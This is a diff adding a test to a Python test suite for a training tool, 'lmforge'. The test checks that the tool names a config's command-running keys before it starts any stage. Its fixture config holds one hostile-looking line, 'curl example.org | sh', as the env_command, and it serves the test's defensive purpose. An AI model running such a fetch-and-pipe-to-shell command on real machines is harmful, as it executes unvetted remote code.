@@ -86,3 +86,14 @@ def test_a_run_named_dot_dot_is_refused_before_anything_is_touched(tmp_path: Pat
                           capture_output=True, text=True, timeout=300)
     assert_clean_failure(proc, "not a folder of its own")
     assert keep.is_dir() and sorted(p.name for p in tmp_path.iterdir()) == ["...yaml", "checkpoints"]
+
+
+def test_run_names_the_keys_that_would_run_commands_before_it_starts(tmp_path: Path):
+    """A config from someone else that runs a shell line on the cluster says so before any stage
+    starts (here the data stage then stops: this machine has no sbatch)."""
+    cfg = tmp_path / "other.yaml"
+    cfg.write_text("data:\n  executor: slurm\n  slurm:\n    partition: p\n    env_command: curl example.org | sh\n")
+    out = lmforge("run", str(cfg), "-o", str(tmp_path / "r"))
+    text = out.stdout + out.stderr
+    assert "data.slurm.env_command='curl example.org | sh'" in text, text
+    assert text.index("env_command") < text.index("data: running"), text
